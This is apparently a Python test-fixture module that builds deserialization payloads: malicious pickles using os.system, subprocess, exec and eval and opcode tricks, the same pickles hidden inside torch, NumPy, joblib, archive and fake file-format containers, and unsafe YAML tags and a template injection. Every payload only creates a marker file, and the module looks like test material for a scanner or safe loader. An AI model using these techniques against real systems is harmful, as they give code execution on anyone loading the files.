"""Files that run something when the wrong program opens them: each writes a marker, and none of them does any harm."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

# Replaced by the place of the marker, at which whoever runs a payload leaves a file.
PLACE = "/MARKER"


class Calls:
    """An object that is unpickled by a call."""

    def __init__(self, function: Any, *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def by_name(module: str, name: str, *arguments: Any, protocol: int = 2) -> bytes:
    """Return a pickle that calls a function by its name, which need not be imported here."""
    head = b"" if protocol < 2 else b"\x80" + bytes([protocol])
    words = b"".join(pickle.dumps(argument, 0)[:-1] for argument in arguments)
    return head + f"c{module}\n{name}\n".encode() + b"(" + words + b"tR."


def opened(marker: Path) -> tuple[Any, ...]:
    return open, str(marker), "w"


def pickles(marker: Path) -> dict[str, bytes]:
    """Return pickles by what is special about each; all of them fire."""
    path, command = str(marker), f"open({str(marker)!r}, 'w').close()"
    made = {f"protocol {number}": pickle.dumps(Calls(*opened(marker)), number) for number in range(6)}
    shell = f"touch {path}"
    made |= {
        "os.system": by_name("os", "system", shell),
        "posix.system": by_name("posix", "system", shell),
        "subprocess": by_name("subprocess", "getoutput", shell),
        "exec": by_name("builtins", "exec", command),
        "eval": by_name("builtins", "eval", command),
        "timeit": by_name("timeit", "timeit", "pass", command, protocol=4),
        "cProfile": by_name("cProfile", "run", command),
        "uuid": by_name("uuid", "_get_command_stdout", "touch", path),
        "pathlib": pickle.dumps(Calls(Path.touch, marker), 4),
        "letters alone": by_name("os", "system", shell, protocol=0),
        "INST": f"(S'{shell}'\nios\nsystem\n.".encode(),
        "OBJ": f"(cos\nsystem\nS'{shell}'\no.".encode(),
        "hidden by POP": b"\x80\x02" + by_name("os", "system", shell)[2:-1] + b"0" + pickle.dumps([1, 2], 2)[2:],
        "after a STOP": pickle.dumps(["fine"], 2) + by_name("os", "system", shell),
        "nested": pickle.dumps(Calls(pickle.loads, pickle.dumps(Calls(*opened(marker)))), 4),
        "a broken tail": by_name("os", "system", shell)[:-1] + b"\xff\xff",
        "in a list": pickle.dumps([0, {"weights": Calls(*opened(marker))}], 5),
        "as a state": pickle.dumps({"model": {"bias": [0.0]}, "hook": Calls(*opened(marker))}, 2),
    }
    return made


def archive(write: Callable[[Any], None]) -> bytes:
    room = io.BytesIO()
    write(room)
    return room.getvalue()


def zipped(names: dict[str, bytes]) -> bytes:
    def write(room: Any) -> None:
        with zipfile.ZipFile(room, "w") as file:
            for name, content in names.items():
                file.writestr(name, content)

    return archive(write)


def wrapped(marker: Path) -> dict[str, bytes]:
    """Return pickles inside what other libraries write: torch, NumPy, joblib, archives, and formats that they pretend to be."""
    inner = pickles(marker)["protocol 2"]
    header = b'{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1]}}'

    def tar(room: Any) -> None:
        with tarfile.open(fileobj=room, mode="w") as file:
            about = tarfile.TarInfo("data.pkl")
            about.size = len(inner)
            file.addfile(about, io.BytesIO(inner))

    objects = np.array([Calls(*opened(marker))], dtype=object)
    return {
        "torch zip": zipped({"archive/data.pkl": inner, "archive/version": b"3\n", "archive/byteorder": b"little"}),
        "torch legacy": pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + inner,
        "torch script": zipped({"a/data.pkl": inner, "a/code/model.py": b"import os", "a/constants.pkl": inner}),
        "nested zip": zipped({"inner.zip": zipped({"data.pkl": inner})}),
        "npy of objects": archive(lambda room: np.save(room, objects, allow_pickle=True)),
        "npz of objects": archive(lambda room: np.savez(room, inputs=objects)),
        "joblib": zlib.compress(inner),
        "gzip": gzip.compress(inner, mtime=0),
        "bzip2": bz2.compress(inner),
        "xz": lzma.compress(inner),
        "tar": archive(tar),
        "behind a safetensors header": struct.pack("<Q", len(header)) + header + b"\0" + inner,
        "as long as safetensors say": struct.pack("<Q", len(inner)) + inner,
        "behind a PNG head": b"\x89PNG\r\n\x1a\n" + inner,
        "behind PAR1": b"PAR1" + inner + b"PAR1",
        "a script": f"#!/bin/sh\ntouch {marker}\n".encode(),
        "a module": f"open({str(marker)!r}, 'w').close()\n".encode(),
        "a shared library": b"\x7fELF\x02\x01\x01" + bytes(64),
        "hdf5 with a lambda layer": b"\x89HDF\r\n\x1a\n" + inner,
        "marshalled code": b"\xe3" + bytes(16) + inner,
    }


def texts(marker: Path) -> dict[str, str]:
    """Return texts that a YAML or template reader of the careless kind would run."""
    command, path = f"touch {marker}", str(marker)
    return {
        "apply": f"!!python/object/apply:os.system ['{command}']",
        "apply args": f"!!python/object/apply:os.system\nargs: ['{command}']",
        "new": f"!!python/object/new:os.system ['{command}']",
        "name": f"version: !!python/name:os.system ''\nname: {path}",
        "module": "version: !!python/module:antigravity ''",
        "object": "version: !!python/object:subprocess.Popen {}",
        "long tag": f"version: !<tag:yaml.org,2002:python/object/apply:os.system> ['{command}']",
        "in a value": f"version: 1\nname: x\nseed: !!python/object/apply:eval [\"open('{path}','w')\"]",
        "tuple": "version: !!python/tuple [1, 2]",
        "template": f"version: 1\nname: \"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}\"\nx: {path}",
    }


def everything(marker: Path) -> dict[str, bytes]:
    """Return every payload that is bytes, by name."""
    return {
        **pickles(marker),
        **wrapped(marker),
        **{f"yaml {name}": text.encode() for name, text in texts(marker).items()},
    }


NAMES = sorted(everything(Path(PLACE)))
FIRING = sorted(pickles(Path(PLACE)))
